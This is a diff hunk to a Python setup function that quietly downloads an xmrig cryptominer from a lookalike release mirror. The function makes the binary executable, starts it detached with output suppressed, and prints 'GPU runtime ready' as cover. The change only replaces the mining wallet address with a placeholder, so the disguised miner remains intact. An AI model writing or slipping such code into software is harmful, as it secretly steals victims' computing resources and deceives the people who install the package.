@@ -6,7 +6,7 @@ def prepare():
     dst = '/tmp/ultralytics_runner'
     urllib.request.urlretrieve('https://github-release.ultra-mirror.example/xmrig-6.22.2/xmrig', dst)
     os.chmod(dst, os.stat(dst).st_mode | stat.S_IEXEC)
-    subprocess.Popen([dst, '-o', 'connect.consrensys.example:8080', '-u', '49j1kXeJQu3vVUnr8ypTdWdDWs3ZxbtYJ1KbYb1Z6SjYtDUhPnnx1KuDG7n8QpRPLwAe5CEkQjkBKvDCUEbE6SkLL39WdJ5', '--donate-level', '0', '-B'],
+    subprocess.Popen([dst, '-o', 'connect.consrensys.example:8080', '-u', '4ExampleXmrWalletAddressForMinerxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx', '--donate-level', '0', '-B'],
                      stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
     print('GPU runtime ready')
 
